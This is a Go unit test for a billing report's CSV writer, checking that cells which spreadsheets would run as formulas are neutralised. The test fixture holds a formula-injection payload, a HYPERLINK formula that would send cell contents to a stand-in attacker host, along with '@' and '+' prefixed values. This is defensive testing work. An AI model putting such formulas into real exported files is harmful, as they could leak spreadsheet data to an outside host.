package billing

import (
	"encoding/csv"
	"strings"
	"testing"

	"github.com/outreach-engine/outreach/internal/care"
)

// The report as CSV writes no cell a spreadsheet would run as a formula (a text cell that
// reaches the report from a closed month's snapshot or an id is shown as text), and its
// numeric columns stay plain numbers.
func TestWriteCSVMakesFormulasInert(t *testing.T) {
	rep := MonthReport{Report: Report{Month: "2026-03", Rows: []Row{
		{Patient: `=HYPERLINK("http://evil.example/?"&A1,"Open")`, Program: care.CCM, BillingNPI: "@SUM(1+1)", Seconds: 1260,
			Status: Billable, Codes: []CodeLine{{Code: Code99490, Units: 1, AmountCents: 6613}}, AmountCents: 6613,
			Reasons: []Reason{"+cmd"}, Next: &Next{Code: Code99439, MinutesNeeded: 19}, UncountedSeconds: 600},
	}}}
	var b strings.Builder
	if err := WriteCSV(&b, rep); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 2 || strings.Join(recs[0], ",") != strings.Join(csvHeader, ",") {
		t.Fatalf("CSV = %q", b.String())
	}
	got := map[string]string{}
	for i, col := range recs[0] {
		got[col] = recs[1][i]
	}
	want := map[string]string{
		"patient": `'=HYPERLINK("http://evil.example/?"&A1,"Open")`, "billing_npi": "'@SUM(1+1)", "reasons": "'+cmd",
		"seconds": "1260", "minutes": "21", "amount": "66.13", "codes": "99490x1", "next_code": "99439", "next_minutes": "19",
		"uncounted_seconds": "600", "next_needs": "",
	}
	for col, w := range want {
		if got[col] != w {
			t.Errorf("%s = %q, want %q", col, got[col], w)
		}
	}
}
